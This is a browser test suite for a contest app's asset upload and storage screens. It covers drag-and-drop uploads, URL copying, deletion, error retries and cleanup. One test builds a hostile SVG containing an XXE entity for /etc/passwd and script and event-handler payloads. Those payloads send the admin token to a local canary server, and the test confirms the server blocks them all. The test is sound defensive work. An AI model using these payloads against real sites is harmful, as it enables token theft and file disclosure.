import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { HTTPRequest } from 'puppeteer';
import { beforeAll, expect, test } from 'vitest';
import { API_PATH, apiRoutes as paths } from '#shared/paths.ts';
import type { Visitor } from '#tests/support/browser.ts';
import { callsOf } from '#tests/support/contest-calls.ts';
import { expectFits, openTab } from '#tests/support/organiser.ts';
import { photo } from '#tests/support/photos.ts';
import { formOf } from '#tests/support/senders.ts';
import { openTestContest } from '#tests/support/test-contest.ts';

const testContest = openTestContest();
let calls: ReturnType<typeof callsOf>;
let admin: string;

beforeAll(async () => {
  calls = callsOf(testContest.contest);
  admin = await calls.signInAdmin();
}, 60_000);

const LOGO =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0h9v9z"/></svg>';

async function upload(name: string, bytes: Buffer | string): Promise<void> {
  const response = await fetch(calls.origin + API_PATH + paths.uploadAsset, {
    method: 'POST',
    headers: { Authorization: `Bearer ${admin}` },
    body: formOf([['file', { bytes: Buffer.from(bytes), name }]]),
  });
  expect(response.status).toBe(200);
}

const at = (tab: 'assets' | 'storage') => openTab(testContest, tab);

const namesIn = (who: Visitor) =>
  who.page.$$eval('ul[aria-label="Assets"] h2', (all) => all.map((it) => it.textContent));

/** Drops files as a hand with a mouse does: over the area, then let go. */
const drop = (who: Visitor, files: readonly { name: string; type: string; text: string }[]) =>
  who.page.$eval(
    'section[aria-label="Upload"] > div',
    (area, list) => {
      const dataTransfer = new DataTransfer();
      for (const { name, type, text } of list) {
        dataTransfer.items.add(new File([text], name, { type }));
      }
      for (const kind of ['dragenter', 'dragover', 'drop']) {
        area.dispatchEvent(new DragEvent(kind, { bubbles: true, cancelable: true, dataTransfer }));
      }
    },
    files,
  );

/** Calls to this path fail until `mend`; not with a 500, which the screen would retry. */
async function failCalls(who: Visitor, path: RegExp): Promise<() => Promise<void>> {
  who.expectConsoleErrors(/status of 403/);
  await who.page.setRequestInterception(true);
  const data = { httpStatus: 403, error: 'Access forbidden', code: 'FORBIDDEN' };
  const failure = { error: { message: data.error, code: -32003, data } };
  const answer = (request: HTTPRequest) => {
    if (!path.test(request.url())) return void request.continue();
    // One answer for each call of the batch.
    const count = new URL(request.url()).pathname.split(',').length;
    const body = JSON.stringify(Array.from({ length: count }, () => failure));
    return void request.respond({ status: 403, contentType: 'application/json', body });
  };
  who.page.on('request', answer);
  return async () => {
    who.page.off('request', answer);
    await who.page.setRequestInterception(false);
  };
}

test('files dragged in upload one by one, and the address of one is copied, with a clipboard or without', async () => {
  const rosa = await at('assets');
  await rosa.sees('No assets have been uploaded');
  rosa.expectConsoleErrors(/status of 415/);
  await drop(rosa, [
    { name: 'Logo.SVG', type: 'image/svg+xml', text: LOGO },
    { name: 'menu.png', type: 'image/png', text: 'no picture at all' },
    { name: 'notes.txt', type: 'text/plain', text: 'milk, eggs' },
  ]);
  await rosa.sees('Logo.svg uploaded successfully');
  await rosa.sees('The content is not that of a .png file');
  await rosa.sees('Assets must be PNG, JPEG, GIF, SVG, WebP, ICO or PDF files');
  await expect.poll(() => namesIn(rosa)).toEqual(['Logo.svg']);
  await rosa.press('Dismiss menu.png');
  await rosa.press('Dismiss notes.txt');

  await rosa.press('Copy URL of Logo.svg');
  await rosa.sees('URL copied to clipboard!');
  const url = await rosa.page.$eval(
    '::-p-aria(URL of Logo.svg)',
    (field) => (field as HTMLInputElement).value,
  );
  expect(url).toBe(`${calls.origin}${API_PATH}/assets/Logo.svg`);
  const shown = await rosa.page.$eval(
    'ul[aria-label="Assets"] img',
    (image) => (image as HTMLImageElement).naturalWidth,
  );
  expect(shown).toBeGreaterThan(0);
  const view = await rosa.page.$eval('::-p-aria(View Logo.svg)', (link) => {
    const { href, target } = link as HTMLAnchorElement;
    return [href, target];
  });
  expect(view).toEqual([url, '_blank']);

  // Plain http over the hotel's wifi has no clipboard for scripts; a locked-down browser not even the older way.
  await rosa.page.evaluate(() => {
    Object.defineProperty(navigator, 'clipboard', { value: undefined });
  });
  await rosa.press('Copy URL of Logo.svg');
  await rosa.sees('URL copied to clipboard!');
  await rosa.page.evaluate(() => {
    document.execCommand = () => false;
  });
  await rosa.press('Copy URL of Logo.svg');
  await rosa.sees('The URL is selected');
  expect(await rosa.page.evaluate(() => String(getSelection()))).toContain('/assets/Logo.svg');
});

test('a file is deleted by keys alone, after a confirmation', async () => {
  const rosa = await at('assets');
  await rosa.sees('Logo.svg');
  const { keyboard } = rosa.page;
  await rosa.page.focus('::-p-aria(Delete Logo.svg)');
  await keyboard.press('Enter');
  await rosa.sees('Delete Logo.svg?');
  await keyboard.press('Escape');
  expect(await namesIn(rosa)).toEqual(['Logo.svg']);

  await upload('map.pdf', '%PDF-1.4\n');
  await rosa.press('Refresh assets');
  await rosa.sees('map.pdf');
  await rosa.page.focus('::-p-aria(Delete map.pdf)');
  await keyboard.press('Enter');
  await rosa.sees('Delete map.pdf?');
  for (const _ of ['close', 'keep', 'delete']) await keyboard.press('Tab');
  await keyboard.press('Enter');
  await rosa.sees('map.pdf deleted successfully');
  await rosa.sees('1 file ·');
  expect(await namesIn(rosa)).toEqual(['Logo.svg']);
});

test('a list that cannot be loaded says so and offers a retry; so do the figures of the storage', async () => {
  const rosa = await at('assets');
  await rosa.sees('Logo.svg');
  const stop = await failCalls(rosa, /trpc\/[^?]*(assets\.list|storage\.stats)/);
  await rosa.page.reload();
  await rosa.sees('Failed to load assets');
  await rosa.press('Storage');
  await rosa.sees('Failed to load dashboard data');
  await stop();
  await rosa.press('Try again');
  await rosa.sees('Total Storage Used');
});

test('a cleanup shows what it will remove, removes it, and has nothing left to remove', async () => {
  await upload('poster.jpg', await photo({ width: 900, height: 600 }));
  await calls.call('DELETE', '/admin/assets/poster.jpg', admin);
  const rosa = await at('storage');
  await rosa.sees('Plenty of room');
  await rosa.sees('Never yet');
  await rosa.press('Trigger Cleanup');
  await rosa.sees('2\nFiles that nothing uses any more');
  await rosa.press('Remove them');
  await rosa.sees('Cleanup completed successfully');
  await rosa.sees('Files Cleaned\n2');
  await rosa.press('Trigger Cleanup');
  await rosa.sees('Nothing to remove');
  await rosa.press('Close');

  await upload('poster.jpg', await photo({ width: 900, height: 600 }));
  await calls.call('DELETE', '/admin/assets/poster.jpg', admin);
  await rosa.press('Trigger Cleanup');
  await rosa.sees('1\nFiles that nothing uses any more');
  const stop = await failCalls(rosa, /storage\.clean/);
  await rosa.press('Remove them');
  await rosa.sees('Failed to trigger cleanup');
  await stop();
});

test('a hostile drawing does nothing when it is opened as a page', async () => {
  const asked: string[] = [];
  const canary = http.createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end();
  });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
  const trap = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
  const steal = `fetch('${trap}/stolen?'+localStorage.adminToken);document.documentElement.id='ran'`;
  await upload(
    'tricks.svg',
    `<?xml version="1.0"?>
    <!DOCTYPE svg [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY far SYSTEM "${trap}/entity">]>
    <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${steal}">
      <script>${steal}</script>
      <script href="${trap}/script.js"/>
      <style>@import url('${trap}/style.css'); rect { fill: url('${trap}/fill.svg#a') }</style>
      <image href="${trap}/image.png" width="9" height="9" onerror="${steal}"/>
      <use href="${trap}/use.svg#a"/>
      <a href="javascript:${steal}"><rect width="90" height="90"/></a>
      <foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml">
        <iframe src="${trap}/frame"></iframe><img src="${trap}/img.png" onerror="${steal}"/>
        <form action="${trap}/form"><input name="a"/></form>
      </body></foreignObject>
      <text>&file;&far;</text>
    </svg>`,
  );
  const rosa = await at('assets');
  await rosa.sees('tricks.svg');
  // A tab of hers, with her session, whose complaints are expected.
  const tab = await rosa.page.browserContext().newPage();
  const refused: string[] = [];
  tab.on('console', (message) => refused.push(message.text()));
  await tab.goto(`${calls.origin}${API_PATH}/assets/tricks.svg`);
  await tab.mouse.click(45, 45);
  await tab.waitForNetworkIdle();
  expect(asked).toEqual([]);
  // It was drawn, and tried: the browser says what it did not allow.
  expect(refused.join('\n')).toMatch(/script/);
  expect(await tab.content()).not.toMatch(/id="ran"|root:/);
  canary.close();
});

test('both tabs fit a phone and a laptop, and can be used by everybody', async () => {
  await upload(`${'a-very-long-name-without-any-space-'.repeat(3).slice(0, 96)}.svg`, LOGO);
  const rosa = await at('assets');
  rosa.expectConsoleErrors(/status of 415/);
  await rosa.sees('Choose files');
  await drop(rosa, [{ name: 'menu.png', type: 'image/png', text: 'no picture at all' }]);
  await rosa.sees('The content is not that of a .png file');
  await expectFits(rosa);
  await rosa.press('Storage');
  await rosa.sees('Total Storage Used');
  await expectFits(rosa);
  await rosa.press('Trigger Cleanup');
  await rosa.sees('Files that nothing uses any more');
  await expectFits(rosa);
});
